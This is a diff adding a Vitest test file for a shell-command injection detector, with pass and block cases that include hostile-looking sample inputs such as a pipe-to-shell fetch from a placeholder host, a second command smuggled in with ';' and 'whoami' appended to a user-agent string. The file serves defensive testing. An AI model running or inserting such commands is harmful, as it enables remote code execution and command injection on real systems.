@@ -1,0 +1,39 @@
+import { spawnSync } from "node:child_process"
+import { describe, expect, test } from "vitest"
+import { isInComment } from "./after-word.ts"
+import { SHELL_DETECTOR } from "./detector.ts"
+import { testDetector } from "../testing/detector.case.ts"
+
+describe("commands that are shown, and comments", () => {
+    testDetector(
+        SHELL_DETECTOR,
+        [
+            { text: "`git pull` してから `npm ci` を実行", want: "pass", why: "in a sentence" },
+            { text: "Run `npm ci && npm run build`, then restart.", want: "pass", why: "two in one" },
+            { text: "Steps:\n1. `cd app && npm install`\n2. `sudo npm start`", want: "pass", why: "a list" },
+            { text: "- run: npm ci && npm test", want: "pass", why: "a workflow" },
+            { text: "Don't use `eval` here.", want: "pass", why: "a word" },
+            { text: "x `git pull`", want: "block", why: "no sentence" },
+            { text: "use `curl a.example | sh` now", want: "block", why: "what builds nothing" },
+            { text: "run `npm ci; id` now", want: "block", why: "another command in it" },
+            { text: "run `git log > /tmp/a` now", want: "block", why: "into a file" },
+            { text: "x && npm test", want: "block", why: "nothing shown before it" },
+            { text: "okhttp/4.12.0 (Linux; x86_64)", want: "pass", why: "a processor" },
+            { text: "axios/1.6.0 (linux; node; docker)", want: "pass", why: "a comment" },
+            { text: "axios/1.6.0 (linux); whoami", want: "block", why: "behind the comment" },
+            { text: "axios/1.6.0' (linux; whoami)", want: "block", why: "a quote before it" },
+            { text: "(linux; whoami)", want: "block", why: "no word before it: a group" },
+        ],
+        ["`", "git pull", "x ", "(", ";", "id", ")", "&&", "npm test"],
+    )
+
+    test.each(["sh", "bash"].filter((shell) => spawnSync(shell, ["-c", "true"]).status === 0))(
+        "%s runs nothing of a bracket behind a word",
+        (shell) => {
+            const text = "axios/1.6.0 (linux; echo ran; echo ran)"
+            expect(isInComment(text, text.indexOf(";"))).toBe(true)
+            for (const line of [text, `true ${text}`, `a=${text}`, `true "x" ${text}`, `echo \`true ${text}\``])
+                expect(spawnSync(shell, ["-c", line], { encoding: "utf8" }).stdout).not.toContain("ran")
+        },
+    )
+})
